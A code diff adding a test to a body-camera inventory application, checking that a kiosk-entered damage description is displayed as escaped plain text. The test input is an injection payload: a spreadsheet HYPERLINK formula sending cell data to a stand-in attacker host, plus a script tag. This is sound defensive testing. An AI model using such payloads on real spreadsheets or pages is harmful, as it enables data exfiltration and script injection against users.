@@ -16,6 +16,7 @@ from audit.models import AuditEvent
 from inventory import services
 from inventory.models import Camera, ChargeEvent, Flag, MaintenanceRecord
 from inventory.tests.factories import CameraFactory, DockFactory
+from kiosk.tests.factories import KioskFactory
 
 from .console import messages_of, sign_in
 
@@ -359,3 +360,18 @@ def test_repair_opened_from_the_console_names_the_staff_user(qm):
 
     assert _repair_opened(response.context["page"].timeline).actor == "quartermaster-user"
     assert "by quartermaster-user" in response.content.decode()
+
+
+def test_a_formula_typed_as_damage_description_shows_as_plain_text(qm):
+    # Anyone at a kiosk can type the description; the page shows it, never runs or links it.
+    camera = CameraFactory(asset_tag="HPD-BWC-0666")
+    assignment_services.check_out(camera=camera, officer=OfficerFactory(), by=SYSTEM)
+    typed = '=HYPERLINK("http://evil.example/?"&A2,"Details")<script>alert(1)</script>'
+    assignment_services.check_in(
+        camera=camera, by=Actor.at_kiosk(KioskFactory()), condition="damaged", damage_description=typed
+    )
+
+    html = qm.get(url(camera)).content.decode()
+
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A2,&quot;Details&quot;)&lt;script&gt;" in html
+    assert "<script>alert(1)" not in html and 'href="http://evil.example' not in html
